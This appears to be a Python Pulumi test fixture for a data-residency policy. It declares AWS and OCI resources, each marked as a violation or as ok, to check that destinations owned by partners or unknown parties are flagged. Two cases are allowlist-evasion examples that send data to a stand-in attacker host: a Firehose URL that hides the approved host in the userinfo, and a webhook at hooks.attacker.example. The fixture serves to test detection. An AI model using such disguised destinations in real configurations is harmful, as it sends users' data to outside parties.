"""Places named in plain sight: connectors, destinations and settings whose values name where the
data goes (issue 10, root causes 2 and 4). Trusted: AWS account 111111111111
(`aws:allowedAccountIds`) and the OCI tenancy of `oci:tenancyOcid`. policy-config.json allows
the egress host hooks.partner-approved.example and declares the orders database host.
"""

import json

import pulumi
import pulumi_aws as aws
import pulumi_oci as oci

OURS = "111111111111"
PARTNER = "999999999999"
TENANCY = "ocid1.tenancy.oc1..aaaaaaaafixturetenancy"
NON_PERSONAL = {"data-classification": "non-personal"}
OCI_NON_PERSONAL = {"data-classification": "non-personal"}
ROLE = f"arn:aws:iam::{OURS}:role/fixture-connector"

# --- DMS endpoints: the database host names its region; a host alone names no owner.
# A source database in eu-central-1, named only by its RDS host.
# violation: residency-named-places
aws.dms.Endpoint(
    "dms-source-frankfurt",
    endpoint_id="dms-source-frankfurt",
    endpoint_type="source",
    engine_name="postgres",
    server_name="partner-db.c9akciq32.eu-central-1.rds.amazonaws.com",
    port=5432,
    database_name="orders",
    username="replicator",
    tags=NON_PERSONAL,
)

# The same in us-east-1, declared in policy-config.json as account 1111's.
# ok: residency-named-places
aws.dms.Endpoint(
    "dms-source-declared",
    endpoint_id="dms-source-declared",
    endpoint_type="source",
    engine_name="postgres",
    server_name="orders.c9akciq32.us-east-1.rds.amazonaws.com",
    port=5432,
    database_name="orders",
    username="replicator",
    tags=NON_PERSONAL,
)

# An RDS host in us-east-1 of nobody knows whom: a region is not an owner.
# violation: residency-named-places
aws.dms.Endpoint(
    "dms-target-undeclared",
    endpoint_id="dms-target-undeclared",
    endpoint_type="target",
    engine_name="postgres",
    server_name="analytics.x7bq2mz01.us-east-1.rds.amazonaws.com",
    port=5432,
    database_name="analytics",
    username="replicator",
    tags=NON_PERSONAL,
)

# --- Firehose HTTP endpoints and DataSync locations: partner URLs and hosts.
backup = aws.s3.Bucket("firehose-backup", bucket="fixture-firehose-backup", tags=NON_PERSONAL)


def http_stream(name: str, url: str) -> aws.kinesis.FirehoseDeliveryStream:
    return aws.kinesis.FirehoseDeliveryStream(
        name,
        destination="http_endpoint",
        http_endpoint_configuration={
            "url": url,
            "name": "partner",
            "role_arn": ROLE,
            # A bucket of this stack, named by its ARN (which carries no account).
            "s3_configuration": {
                "role_arn": ROLE,
                "bucket_arn": "arn:aws:s3:::fixture-firehose-backup",
            },
        },
        tags=NON_PERSONAL,
        # Analysed after the bucket, so that its name is known to be this stack's.
        opts=pulumi.ResourceOptions(depends_on=[backup]),
    )


# violation: residency-named-places
http_stream("events-to-partner", "https://ingest.partner.example/v1/events")

# The host is in the egress allowlist.
# ok: residency-named-places
http_stream("events-to-approved", "https://hooks.partner-approved.example/in")

# The allowlisted host only in the userinfo: the request goes to attacker.example.
# violation: residency-named-places
http_stream("events-userinfo", "https://hooks.partner-approved.example@attacker.example/in")

# An API Gateway host in us-east-1: a region is not an owner, and the host names none.
# violation: residency-named-places
http_stream("events-to-some-api", "https://k3x9q2.execute-api.us-east-1.amazonaws.com/prod/in")

# violation: residency-named-places
# violation: residency-data-flow
aws.datasync.LocationObjectStorage(
    "partner-object-store",
    server_hostname="storage.partner.example",
    bucket_name="exports",
    agent_arns=[f"arn:aws:datasync:us-east-1:{OURS}:agent/agent-0b1c2d3e4f5a6b7c8"],
    tags=NON_PERSONAL,
)

# --- Lambda destinations: an ARN names region and account.
# Failures go to a queue in eu-west-1.
# violation: residency-named-places
# violation: residency-data-flow
aws.lambda_.FunctionEventInvokeConfig(
    "orders-on-failure-ireland",
    function_name="orders",
    destination_config={
        "on_failure": {"destination": f"arn:aws:sqs:eu-west-1:{OURS}:orders-failures"},
    },
)

# Successes go to a queue of account 999999999999, in us-east-1.
# violation: residency-named-places
# violation: residency-data-flow
aws.lambda_.FunctionEventInvokeConfig(
    "orders-on-success-partner",
    function_name="orders",
    qualifier="live",
    destination_config={
        "on_success": {"destination": f"arn:aws:sqs:us-east-1:{PARTNER}:orders-done"},
    },
)

# ok: residency-named-places
aws.lambda_.FunctionEventInvokeConfig(
    "orders-on-success",
    function_name="orders",
    qualifier="stable",
    destination_config={
        "on_success": {"destination": f"arn:aws:sqs:us-east-1:{OURS}:orders-done"},
    },
)

# --- An Organizations backup policy that copies every backup to eu-west-1.
# violation: residency-named-places
# violation: residency-data-flow
# violation: residency-no-cross-region-copy
aws.organizations.Policy(
    "backup-everything-to-ireland",
    type="BACKUP_POLICY",
    content=json.dumps(
        {
            "plans": {
                "all": {
                    "regions": {"@@assign": ["us-east-1"]},
                    "rules": {
                        "daily": {
                            "target_backup_vault_name": {"@@assign": "Default"},
                            "copy_actions": {
                                "arn:aws:backup:eu-west-1:$account:backup-vault:Default": {
                                    "target_backup_vault_arn": {
                                        "@@assign": "arn:aws:backup:eu-west-1:$account:"
                                        "backup-vault:Default"
                                    }
                                }
                            },
                        }
                    },
                }
            }
        }
    ),
)

# --- AWS-managed and service values are not foreign places.
# ok: residency-named-places
aws.iam.RolePolicyAttachment(
    "connector-read-only",
    role="fixture-connector",
    policy_arn="arn:aws:iam::aws:policy/ReadOnlyAccess",
)

# An identity policy that lets our role send to a queue of account 999999999999.
# violation: residency-named-places
aws.iam.RolePolicy(
    "connector-send-partner",
    role="fixture-connector",
    policy=json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Action": "sqs:SendMessage",
                    "Resource": f"arn:aws:sqs:us-east-1:{PARTNER}:inbox",
                }
            ],
        }
    ),
)

# ok: residency-named-places
aws.iam.RolePolicy(
    "connector-send-own",
    role="fixture-connector",
    policy=json.dumps(
        {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Action": ["sqs:SendMessage", "states:StartExecution"],
                    "Resource": [f"arn:aws:sqs:us-east-1:{OURS}:inbox", "*"],
                }
            ],
        }
    ),
)

# --- OCI: GoldenGate connections name their stream pool by OCID (its region key: fra, iad).
# violation: residency-named-places
# violation: residency-data-flow
oci.goldengate.Connection(
    "ggs-stream-frankfurt",
    compartment_id=TENANCY,
    display_name="ggs-stream-frankfurt",
    connection_type="KAFKA",
    technology_type="OCI_STREAMING",
    stream_pool_id="ocid1.streampool.oc1.fra.aaaaaaaafixturestreampool",
    freeform_tags=OCI_NON_PERSONAL,
)

# ok: residency-named-places
oci.goldengate.Connection(
    "ggs-stream-ashburn",
    compartment_id=TENANCY,
    display_name="ggs-stream-ashburn",
    connection_type="KAFKA",
    technology_type="OCI_STREAMING",
    stream_pool_id="ocid1.streampool.oc1.iad.aaaaaaaafixturestreampool",
    freeform_tags=OCI_NON_PERSONAL,
)

# --- OCI notifications: only the webhook's host counts, never its query string.
# violation: residency-named-places
# violation: residency-data-flow
oci.ons.Subscription(
    "alerts-webhook",
    compartment_id=TENANCY,
    topic_id="ocid1.onstopic.oc1.iad.aaaaaaaafixturetopic",
    protocol="CUSTOM_HTTPS",
    endpoint=(
        "https://hooks.attacker.example/notify"
        "?relay=https://notification.us-ashburn-1.oraclecloud.com"
    ),
    freeform_tags=OCI_NON_PERSONAL,
)

# A function subscription names the function by OCID (iad).
# ok: residency-named-places
oci.ons.Subscription(
    "alerts-function",
    compartment_id=TENANCY,
    topic_id="ocid1.onstopic.oc1.iad.aaaaaaaafixturetopic",
    protocol="ORACLE_FUNCTIONS",
    endpoint="ocid1.fnfunc.oc1.iad.aaaaaaaafixturefunction",
    freeform_tags=OCI_NON_PERSONAL,
)

# --- Bedrock cross-Region inference profiles: a `<geography>.` profile sends each prompt to any
# Region of its geography, whatever Region the agent is in.
# violation: residency-named-places
aws.bedrock.AgentAgent(
    "assistant-eu-profile",
    agent_name="assistant-eu-profile",
    agent_resource_role_arn=ROLE,
    foundation_model="eu.anthropic.claude-3-5-sonnet-20240620-v1:0",
)

# A single-Region model id: the requests stay in the agent's Region.
# ok: residency-named-places
aws.bedrock.AgentAgent(
    "assistant-in-region",
    agent_name="assistant-in-region",
    agent_resource_role_arn=ROLE,
    foundation_model="anthropic.claude-3-5-sonnet-20240620-v1:0",
)

# An application profile copying the global profile: any commercial Region worldwide.
# violation: residency-named-places
aws.bedrock.InferenceProfile(
    "assistant-global-profile",
    name="assistant-global-profile",
    model_source={
        "copy_from": f"arn:aws:bedrock:us-east-1:{OURS}:inference-profile/"
        "global.anthropic.claude-sonnet-4-5-20250929-v1:0"
    },
    tags=NON_PERSONAL,
)


# --- Places a value cannot tell (red team 3): a bare S3 bucket name in a bucket field, a bare
# host in a host/domain/connection field (also inside JSON), an account id in a sharing field,
# an account-less S3 ARN that an identity policy lets its holder write to.
audit_logs = aws.s3.Bucket("fixture-audit-logs", bucket="fixture-audit-logs", tags=NON_PERSONAL)

# Redshift audit logs (query text) to a bucket nobody can say whose it is.
# violation: residency-named-places
aws.redshift.Logging(
    "audit-to-partner-bucket",
    cluster_identifier="fixture-dw",
    log_destination_type="s3",
    bucket_name="partner-audit",
)

# The same to a bucket of this stack (by its name).
# ok: residency-named-places
aws.redshift.Logging(
    "audit-to-own-bucket",
    cluster_identifier="fixture-dw",
    log_destination_type="s3",
    bucket_name="fixture-audit-logs",
    opts=pulumi.ResourceOptions(depends_on=[audit_logs]),
)

# Data Exchange auto-export of every revision to a partner bucket.
# violation: residency-named-places
aws.dataexchange.EventAction(
    "export-to-partner-bucket",
    event={"revision_published": {"data_set_id": "fixture-data-set"}},
    action={"export_revision_to_s3": {"revision_destination": {"bucket": "partner-exports"}}},
)

# The same to a bucket declared in policy-config.json (as its ARN) as account 1111's.
# ok: residency-named-places
aws.dataexchange.EventAction(
    "export-to-declared-bucket",
    event={"revision_published": {"data_set_id": "fixture-data-set"}},
    action={
        "export_revision_to_s3": {"revision_destination": {"bucket": "fixture-exports-archive"}}
    },
)


def firelens(host: str) -> str:
    return json.dumps([{
        "name": "api",
        "image": f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/api:1.4.2",
        "logConfiguration": {
            "logDriver": "awsfirelens",
            "options": {"Name": "http", "Host": host, "Port": "443", "tls": "on"},
        },
    }])  # fmt: skip


# A task definition of user-data containers whose log router ships to a host of nobody's list.
# violation: residency-named-places
aws.ecs.TaskDefinition(
    "api-logs-to-partner",
    family="api-logs-to-partner",
    container_definitions=firelens("logs.partner-apm.example"),
    tags={"data-classification": "us-user-data"},
)

# ok: residency-named-places
aws.ecs.TaskDefinition(
    "api-logs-to-allowed-host",
    family="api-logs-to-allowed-host",
    container_definitions=firelens("hooks.partner-approved.example"),
    tags={"data-classification": "us-user-data"},
)

# An OCI Recovery Appliance backup destination at a host outside OCI.
# violation: residency-named-places
oci.database.BackupDestination(
    "zdlra-partner",
    compartment_id=TENANCY,
    display_name="zdlra-partner",
    type="RECOVERY_APPLIANCE",
    connection_string="zdlra.partner-dc.example:1521/zdlra",
    vpc_users=["vpcuser"],
    freeform_tags=OCI_NON_PERSONAL,
)

# ok: residency-named-places
oci.database.BackupDestination(
    "zdlra-allowed",
    compartment_id=TENANCY,
    display_name="zdlra-allowed",
    type="RECOVERY_APPLIANCE",
    connection_string="hooks.partner-approved.example:1521/zdlra",
    vpc_users=["vpcuser"],
    freeform_tags=OCI_NON_PERSONAL,
)

# A directory (an identity store) shared with another account.
# violation: residency-named-places
aws.directoryservice.SharedDirectory(
    "directory-to-partner",
    directory_id="d-1234567890",
    target={"id": PARTNER, "type": "ACCOUNT"},
)

# ok: residency-named-places
aws.directoryservice.SharedDirectory(
    "directory-to-own-account",
    directory_id="d-1234567890",
    target={"id": OURS, "type": "ACCOUNT"},
)

# An Athena catalog on another account's Glue catalog (CTAS writes into the partner's lake).
# violation: residency-named-places
aws.athena.DataCatalog(
    "catalog-of-partner",
    name="catalog-of-partner",
    description="fixture",
    type="GLUE",
    parameters={"catalog-id": PARTNER},
)

# ok: residency-named-places
aws.athena.DataCatalog(
    "catalog-of-own-account",
    name="catalog-of-own-account",
    description="fixture",
    type="GLUE",
    parameters={"catalog-id": OURS},
)


def put_policy(action: str, bucket: str) -> str:
    return json.dumps({
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Action": [action], "Resource": f"arn:aws:s3:::{bucket}/*"}
        ],
    })  # fmt: skip


# An identity policy that lets the role write into a bucket nobody can say whose it is.
# violation: residency-named-places
aws.iam.RolePolicy(
    "write-partner-bucket", role="fixture-app", policy=put_policy("s3:PutObject", "partner-dropbox")
)

# ok: residency-named-places
aws.iam.RolePolicy(
    "read-partner-bucket", role="fixture-app", policy=put_policy("s3:GetObject", "partner-dropbox")
)

# ok: residency-named-places
aws.iam.RolePolicy(
    "write-own-bucket",
    role="fixture-app",
    policy=put_policy("s3:PutObject", "fixture-audit-logs"),
    opts=pulumi.ResourceOptions(depends_on=[audit_logs]),
)


def distribution(origin_host: str) -> dict[str, object]:
    return {
        "enabled": True,
        "origins": [{
            "origin_id": "up",
            "domain_name": origin_host,
            "custom_origin_config": {
                "http_port": 80, "https_port": 443, "origin_protocol_policy": "https-only",
                "origin_ssl_protocols": ["TLSv1.2"],
            },
        }],
        "default_cache_behavior": {
            "target_origin_id": "up", "viewer_protocol_policy": "https-only",
            "allowed_methods": ["GET", "HEAD", "OPTIONS", "PUT", "POST", "PATCH", "DELETE"],
            "cached_methods": ["GET", "HEAD"],
            "cache_policy_id": "4135ea2d-6df8-44a3-9df3-4b5a84be39ad",
        },
        "restrictions": {"geo_restriction": {"restriction_type": "none"}},
        "viewer_certificate": {"cloudfront_default_certificate": True},
        "tags": NON_PERSONAL,
    }  # fmt: skip


# A CloudFront custom origin (user uploads go there) at a host outside the clouds.
# violation: residency-named-places
aws.cloudfront.Distribution("cdn-partner-origin", **distribution("upload.partner-cdn.example"))

# ok: residency-named-places
aws.cloudfront.Distribution("cdn-allowed-origin", **distribution("hooks.partner-approved.example"))


# --- A size field is no address: an Amazon MQ broker's `hostInstanceType` (`mq.m5.large`) is a
# catalog name that no DNS resolves, whatever its key says. Its LDAP servers are addresses.
def broker(name: str, ldap_hosts: list[str] | None) -> None:
    ldap = None
    if ldap_hosts:
        ldap = {
            "hosts": ldap_hosts, "role_base": "ou=roles,dc=example",
            "role_search_matching": "(member={0})",
            "service_account_username": "mq", "service_account_password": "secret-from-config",
            "user_base": "ou=users,dc=example", "user_search_matching": "(uid={0})",
        }  # fmt: skip
    aws.mq.Broker(
        name,
        broker_name=name,
        engine_type="ActiveMQ",
        engine_version="5.18",
        host_instance_type="mq.m5.large",
        publicly_accessible=False,
        authentication_strategy="ldap" if ldap else "simple",
        ldap_server_metadata=ldap,
        users=[{"username": "app", "password": "secret-from-config"}],
        tags=NON_PERSONAL,
    )


# ok: residency-named-places
broker("mq-private", None)

# A partner's LDAP server decides who reads the queues: a host outside the clouds.
# violation: residency-named-places
broker("mq-partner-ldap", ["ldap.partner.example"])

# --- Code supply: a layer version or an image is code that runs next to the data. Its owner is
# judged like a destination's; AWS's own published layers are a reviewed list.
# A partner's telemetry layer in an allowed region.
# violation: residency-named-places
aws.lambda_.Function(
    "fn-partner-layer",
    role=ROLE,
    runtime="python3.12",
    handler="h.h",
    code=pulumi.AssetArchive({"h.py": pulumi.StringAsset("def h(e, c): pass")}),
    layers=[f"arn:aws:lambda:us-east-1:{PARTNER}:layer:telemetry:7"],
    tags=NON_PERSONAL,
)

# AWS's Parameters and Secrets extension (account 177933569100 publishes it in us-east-1).
# ok: residency-named-places
aws.lambda_.Function(
    "fn-aws-extension-layer",
    role=ROLE,
    runtime="python3.12",
    handler="h.h",
    code=pulumi.AssetArchive({"h.py": pulumi.StringAsset("def h(e, c): pass")}),
    layers=[
        "arn:aws:lambda:us-east-1:177933569100:layer:AWS-Parameters-and-Secrets-Lambda-Extension:12"
    ],
    tags=NON_PERSONAL,
)

# A container image from a partner's registry in an allowed region.
# violation: residency-named-places
aws.lambda_.Function(
    "fn-partner-image",
    role=ROLE,
    package_type="Image",
    image_uri=f"{PARTNER}.dkr.ecr.us-east-1.amazonaws.com/enricher:1",
    tags=NON_PERSONAL,
)


# --- Container images from any registry (the catalog's `image_fields`): the reference is parsed
# as a container runtime resolves it (the registry is the first component when it has a dot or a
# port, else Docker Hub) and the registry is judged as the place the code comes from. Only a
# private ECR registry tells its owner; any other registry is a third party's unless declared.
def task_with_image(name: str, image: str, tags: dict[str, str] | None = None) -> None:
    aws.ecs.TaskDefinition(
        name,
        family=name,
        requires_compatibilities=["FARGATE"],
        network_mode="awsvpc",
        cpu="256",
        memory="512",
        container_definitions=json.dumps([{"name": "etl", "image": image, "essential": True}]),
        tags=tags,
    )


# An implicit Docker Hub image (no registry written: `docker.io`), on an unlabelled task.
# violation: residency-named-places
task_with_image("task-dockerhub-implicit", "nginx:latest")

# The same, written out and tagged, on a task labelled us-user-data.
# violation: residency-named-places
task_with_image(
    "task-dockerhub", "docker.io/partnerco/etl:latest", {"data-classification": "us-user-data"}
)

# ECR Public: anyone's alias, no account.
# violation: residency-named-places
task_with_image("task-ecr-public", "public.ecr.aws/partnerco/etl:1.4")

# Our own private ECR registry in an allowed region, pinned by digest.
# ok: residency-named-places
task_with_image("task-own-ecr", f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/etl@sha256:" + "a" * 64)

# A repository declared in policy-config.json with our account vouching for it (the review).
# ok: residency-named-places
task_with_image("task-declared-repository", "ghcr.io/fixture-vendor/agent:3.1")

# CodeBuild's `environment.image` takes AWS-curated build images by a registry-less name under
# `aws/codebuild/`: AWS's own code. Anywhere else that name is Docker Hub's `aws` namespace.
# ok: residency-named-places
aws.codebuild.Project(
    "build-aws-curated-image",
    service_role=f"arn:aws:iam::{OURS}:role/fixture-build",
    artifacts={"type": "NO_ARTIFACTS"},
    environment={"compute_type": "BUILD_GENERAL1_SMALL", "image": "aws/codebuild/standard:7.0",
                 "type": "LINUX_CONTAINER"},
    source={"type": "NO_SOURCE", "buildspec": "version: 0.2"},
    tags=NON_PERSONAL,
)  # fmt: skip
# violation: residency-named-places
aws.codebuild.Project(
    "build-dockerhub-image",
    service_role=f"arn:aws:iam::{OURS}:role/fixture-build",
    artifacts={"type": "NO_ARTIFACTS"},
    environment={"compute_type": "BUILD_GENERAL1_SMALL", "image": "partnerco/builder:1",
                 "type": "LINUX_CONTAINER"},
    source={"type": "NO_SOURCE", "buildspec": "version: 0.2"},
    tags=NON_PERSONAL,
)  # fmt: skip
# violation: residency-named-places
task_with_image("task-aws-named-dockerhub", "aws/codebuild/standard:7.0",
                {"data-classification": "us-user-data"})  # fmt: skip

# An Image Builder container recipe's parent image is built into every image it makes (an
# unlabelled recipe: its images may run next to any data).
# violation: residency-named-places
aws.imagebuilder.ContainerRecipe(
    "recipe-dockerhub-parent", name="recipe-dockerhub-parent", version="1.0.0",
    container_type="DOCKER", parent_image="partnerco/base:latest",
    target_repository={"repository_name": "fixture-api", "service": "ECR"},
    dockerfile_template_data="FROM {{{ imagebuilder:parentImage }}}\n", components=[],
)  # fmt: skip
# ok: residency-named-places
aws.imagebuilder.ContainerRecipe(
    "recipe-own-ecr-parent", name="recipe-own-ecr-parent", version="1.0.0",
    container_type="DOCKER", parent_image=f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/base:1",
    target_repository={"repository_name": "fixture-api", "service": "ECR"},
    dockerfile_template_data="FROM {{{ imagebuilder:parentImage }}}\n", components=[],
)  # fmt: skip

# App Runner from ECR Public.
# violation: residency-named-places
aws.apprunner.Service(
    "apprunner-ecr-public",
    service_name="apprunner-ecr-public",
    source_configuration={
        "image_repository": {
            "image_identifier": "public.ecr.aws/partnerco/api:2",
            "image_repository_type": "ECR_PUBLIC",
        },
        "auto_deployments_enabled": False,
    },
    tags=NON_PERSONAL,
)

# An OCI function from another namespace's OCIR registry in a US region: OCIR answers for the
# namespace's tenancy, which the value cannot tell.
# violation: residency-named-places
oci.functions.Function(
    "fn-ocir-partner-namespace",
    application_id="ocid1.fnapp.oc1.iad.aaaaaaaafixtureapp",
    display_name="fn-ocir-partner-namespace",
    image="iad.ocir.io/partnerns/etl:1.0",
    memory_in_mbs="256",
    freeform_tags=OCI_NON_PERSONAL,
)

# The tenancy's own namespace, declared in policy-config.json with the tenancy.
# ok: residency-named-places
oci.functions.Function(
    "fn-ocir-own-namespace",
    application_id="ocid1.fnapp.oc1.iad.aaaaaaaafixtureapp",
    display_name="fn-ocir-own-namespace",
    image="iad.ocir.io/fixturens/etl:1.0",
    memory_in_mbs="256",
    freeform_tags=OCI_NON_PERSONAL,
)

# A marketplace subscription returns Oracle's terms-of-use link and needs it back as proof of
# acceptance: a document people read, harmless (the catalog's `harmless_fields`).
# ok: residency-named-places
oci.core.AppCatalogSubscription(
    "marketplace-oracle-listing",
    compartment_id="ocid1.compartment.oc1..aaaaaaaafixturecompartment",
    listing_id="ocid1.appcataloglisting.oc1..aaaaaaaafixturelisting",
    listing_resource_version="1.0",
    oracle_terms_of_use_link="https://cloudmarketplace.oracle.com/marketplace/content?contentId=1",
    signature="fixture-signature",
    time_retrieved="2026-11-01T00:00:00Z",
)

# --- Routing and log delivery of config-only resources (the catalog's `reached_fields`): a load
# balancer, listener, target, backend, accelerator or log driver holds no data, but the requests
# and logs it routes go to the places these fields name, so they count as reached by data.
LB_ARN = (
    f"arn:aws:elasticloadbalancing:us-east-1:{OURS}:loadbalancer/app/fixture-web/0123456789abcdef"
)
TG_ARN = f"arn:aws:elasticloadbalancing:us-east-1:{OURS}:targetgroup/fixture-api/0123456789abcdef"
SUBNETS = ["subnet-0a1b2c3d4e5f60001", "subnet-0a1b2c3d4e5f60002"]

# ALB access logs (client IPs, URLs with tokens) to a partner's bucket by its bare name.
# violation: residency-named-places
aws.lb.LoadBalancer(
    "alb-logs-partner",
    load_balancer_type="application",
    subnets=SUBNETS,
    access_logs={"bucket": "partner-alb-logs", "enabled": True},
)

# The same logs to a bucket of this stack.
# ok: residency-named-places
aws.lb.LoadBalancer(
    "alb-logs-own",
    load_balancer_type="application",
    subnets=SUBNETS,
    access_logs={"bucket": "fixture-audit-logs", "enabled": True},
)

# A redirect sends every request, path and query included, to the host it names.
# violation: residency-named-places
aws.lb.Listener(
    "redirect-partner",
    load_balancer_arn=LB_ARN,
    port=80,
    protocol="HTTP",
    default_actions=[{
        "type": "redirect",
        "redirect": {"host": "collect.partner.example", "protocol": "HTTPS", "port": "443",
                     "status_code": "HTTP_302"},
    }],
)  # fmt: skip

# The standard HTTP -> HTTPS redirect keeps the request's own host (`#{host}`).
# ok: residency-named-places
aws.lb.Listener(
    "redirect-https",
    load_balancer_arn=LB_ARN,
    port=81,
    protocol="HTTP",
    default_actions=[{
        "type": "redirect",
        "redirect": {"host": "#{host}", "protocol": "HTTPS", "port": "443",
                     "status_code": "HTTP_301"},
    }],
)  # fmt: skip

# An IP target on the internet gets every forwarded request; a private one is in the VPC.
# violation: residency-named-places
aws.lb.TargetGroupAttachment("target-public-ip", target_group_arn=TG_ARN, target_id="203.0.113.50",
                             availability_zone="all")  # fmt: skip
# ok: residency-named-places
aws.lb.TargetGroupAttachment("target-private-ip", target_group_arn=TG_ARN, target_id="10.0.1.25")


def task(name: str, log_configuration: dict[str, object]) -> None:
    aws.ecs.TaskDefinition(
        name,
        family=name,
        container_definitions=json.dumps([{
            "name": "api", "image": f"{OURS}.dkr.ecr.us-east-1.amazonaws.com/api:1.4.2",
            "essential": True, "memory": 512, "logConfiguration": log_configuration,
        }]),
        tags=NON_PERSONAL,
    )  # fmt: skip


# A container log driver ships what the containers log to the host its options name.
# violation: residency-named-places
task("ecs-logs-splunk-partner", {"logDriver": "splunk", "options": {
    "splunk-url": "https://http-inputs-partner.splunkcloud.com", "splunk-token": "x"}})  # fmt: skip
# violation: residency-named-places
task(
    "ecs-logs-syslog-ip",
    {"logDriver": "syslog", "options": {"syslog-address": "tcp://203.0.113.10:514"}},
)
# ok: residency-named-places
task("ecs-logs-awslogs", {"logDriver": "awslogs", "options": {
    "awslogs-group": "/ecs/api", "awslogs-region": "us-east-1"}})  # fmt: skip

# Global Accelerator flow logs (client IPs) to a partner's bucket by its bare name.
# violation: residency-named-places
aws.globalaccelerator.Accelerator(
    "ga-flowlogs-partner",
    name="ga-flowlogs-partner",
    attributes={"flow_logs_enabled": True, "flow_logs_s3_bucket": "partner-ga-logs",
                "flow_logs_s3_prefix": "acme/"},
    tags=NON_PERSONAL,
)  # fmt: skip

# CloudWatch Logs data-protection findings (the matched data's context) to a partner's bucket.
EMAIL = "arn:aws:dataprotection::aws:data-identifier/EmailAddress"
DLP_BUCKET = "partner-dlp-findings"
# violation: residency-named-places
aws.cloudwatch.LogDataProtectionPolicy(
    "dlp-findings-partner",
    log_group_name="/fixture/app",
    policy_document=json.dumps({"Name": "pii", "Version": "2021-06-01", "Statement": [
        {"Sid": "audit", "DataIdentifier": [EMAIL],
         "Operation": {"Audit": {"FindingsDestination": {"S3": {"Bucket": DLP_BUCKET}}}}},
        {"Sid": "redact", "DataIdentifier": [EMAIL],
         "Operation": {"Deidentify": {"MaskConfig": {}}}},
    ]}),
)  # fmt: skip

# OCI load balancer backends: a public address outside the VCN, and a private one inside it.
OCI_LB = "ocid1.loadbalancer.oc1.iad.aaaaaaaafixturelb"
# violation: residency-named-places
oci.loadbalancer.Backend("lb-backend-public", load_balancer_id=OCI_LB, backendset_name="app",
                         ip_address="203.0.113.77", port=8080)  # fmt: skip
# ok: residency-named-places
oci.loadbalancer.Backend("lb-backend-private", load_balancer_id=OCI_LB, backendset_name="app",
                         ip_address="10.10.1.15", port=8080)  # fmt: skip

# --- Values unknown during preview. A reference to a resource of the stack (`role.arn`) is
# resolved through the stack graph: no notice. A string built with `apply`/`Output.format` around
# an output is unknown as a whole in preview; on a resource data can reach the policy shows the
# SDK's "can't run policy during preview" notice (advisory, not annotated: not a violation yet)
# and judges the known value during `pulumi up`, before the create.
fn_role = aws.iam.Role(
    "fn-role",
    assume_role_policy=json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Action": "sts:AssumeRole",
        "Principal": {"Service": "lambda.amazonaws.com"},
        "Condition": {"StringEquals": {"aws:SourceAccount": OURS}}}]}),
)  # fmt: skip
# ok: residency-named-places
aws.lambda_.Function(
    "fn-role-from-output",
    role=fn_role.arn,
    runtime="python3.12",
    handler="h.h",
    code=pulumi.AssetArchive({"h.py": pulumi.StringAsset("def h(e, c): pass")}),
    environment={"variables": {"MODE": "full"}},
    tags=NON_PERSONAL,
)
# Pending in preview (notice), a violation during `pulumi up` (a host outside the clouds).
aws.lambda_.Function(
    "fn-sink-from-output",
    role=fn_role.arn,
    runtime="python3.12",
    handler="h.h",
    code=pulumi.AssetArchive({"h.py": pulumi.StringAsset("def h(e, c): pass")}),
    environment={"variables": {
        "SINK": pulumi.Output.format("https://{0}.ingest.partner.example/", fn_role.name)}},
    tags=NON_PERSONAL,
)

# OCI API Gateway routes: a backend at a private address of our VCN is our own network; a public
# backend outside it (the requests of the users it routes) names no owner.
OCI_COMPARTMENT = "ocid1.compartment.oc1..aaaaaaaafixturecompartment"
OCI_GATEWAY = "ocid1.apigateway.oc1.iad.aaaaaaaafixturegateway"


def oci_route(url: str) -> dict[str, object]:
    return {"routes": [{"path": "/users", "methods": ["POST"],
                        "backend": {"type": "HTTP_BACKEND", "url": url}}]}  # fmt: skip


# ok: residency-named-places
oci.apigateway.Deployment("apigw-private-backend", compartment_id=OCI_COMPARTMENT,
                          gateway_id=OCI_GATEWAY, path_prefix="/v1",
                          specification=oci_route("http://10.10.1.5:8080/users"))  # fmt: skip
# violation: residency-named-places
oci.apigateway.Deployment("apigw-public-backend", compartment_id=OCI_COMPARTMENT,
                          gateway_id=OCI_GATEWAY, path_prefix="/v2",
                          specification=oci_route("http://203.0.113.15:8080/users"))  # fmt: skip

# AWS Backup restore testing into a new bucket: `NewBucket` is a flag, not a bucket name; a
# `DestinationBucketName` of nobody knows whom is a place the restored data goes.
RESTORE_ROLE = f"arn:aws:iam::{OURS}:role/fixture-restore-testing"
SOURCE_BUCKET = backup.arn
# ok: residency-named-places
aws.backup.RestoreTestingSelection(
    "restore-new-bucket", name="restore_new_bucket", restore_testing_plan_name="weekly",
    iam_role_arn=RESTORE_ROLE, protected_resource_type="S3",
    protected_resource_arns=[SOURCE_BUCKET],
    restore_metadata_overrides={"NewBucket": "true", "EncryptionType": "SSE-S3"},
)  # fmt: skip
# violation: residency-named-places
aws.backup.RestoreTestingSelection(
    "restore-partner-bucket", name="restore_partner_bucket", restore_testing_plan_name="weekly",
    iam_role_arn=RESTORE_ROLE, protected_resource_type="S3",
    protected_resource_arns=[SOURCE_BUCKET],
    restore_metadata_overrides={"DestinationBucketName": "partner-restore-drop"},
)  # fmt: skip

# OCI Data Flow over buckets named by oci:// URIs: a bucket of this stack (by name and
# namespace) is that bucket; a bucket in another namespace is nobody knows whose.
OCI_NS = "fixturens"
oci_bucket = oci.objectstorage.Bucket("fixture-exports", compartment_id=OCI_COMPARTMENT,
                                      namespace=OCI_NS, name="fixture-exports",
                                      freeform_tags=OCI_NON_PERSONAL)  # fmt: skip
SPARK = {"ocpus": 1, "memory_in_gbs": 16}


def dataflow(name: str, out: pulumi.Input[str]) -> None:
    oci.dataflow.Application(name, compartment_id=OCI_COMPARTMENT, display_name=name,
                             driver_shape="VM.Standard.E4.Flex",
                             executor_shape="VM.Standard.E4.Flex",
                             driver_shape_config=SPARK, executor_shape_config=SPARK,
                             file_uri=pulumi.Output.format("oci://{0}@{1}/job.py",
                                                           oci_bucket.name, oci_bucket.namespace),
                             language="PYTHON", num_executors=1, spark_version="3.5.0",
                             arguments=["--out", out], freeform_tags=OCI_NON_PERSONAL)  # fmt: skip


# ok: residency-named-places
dataflow(
    "dataflow-own-bucket",
    pulumi.Output.format("oci://{0}@{1}/out/", oci_bucket.name, oci_bucket.namespace),
)
# violation: residency-named-places
